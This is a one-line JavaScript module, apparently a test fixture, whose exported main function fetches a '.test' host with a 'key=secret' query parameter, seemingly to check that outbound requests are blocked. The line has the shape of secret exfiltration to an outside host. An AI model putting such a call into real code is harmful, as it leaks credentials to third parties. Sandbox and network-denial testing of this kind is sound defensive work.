export const main = () => fetch("https://denied.test/a?key=secret");
